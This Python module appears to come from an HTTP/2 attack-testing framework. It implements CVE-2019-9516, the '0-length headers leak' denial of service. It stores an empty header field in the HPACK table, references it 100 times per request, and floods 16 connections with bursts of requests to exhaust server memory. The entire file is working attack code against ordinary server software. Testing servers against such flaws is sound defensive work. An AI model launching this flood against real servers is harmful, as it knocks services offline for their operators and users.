"""Fields without a name and without a value, as the table of fields takes them. Some programs store
them until the connection ends ("0-length headers leak")."""

from lib.attack import HTTP2, Attack, Case
from lib.frames import NEWEST, get, indexed, request, stored

CONNECTIONS = 16
BURST = 20
FIELDS = 100


def flood(attacker):
    # each entry takes 32 bytes of the table
    head = get(fields=stored(b"", b"") + indexed(NEWEST) * FIELDS)

    def burst(wire, _):
        return b"".join(request(stream, head) for stream in wire.streams(BURST))

    attacker.flood(CONNECTIONS, lambda at: attacker.http2(at=at), burst, "requests", BURST)


ATTACK = Attack(
    title="empty names",
    published="CVE-2019-9516",
    cases=(Case("a hundred of each head", HTTP2, flood, {"requests": 5_000}),),
)
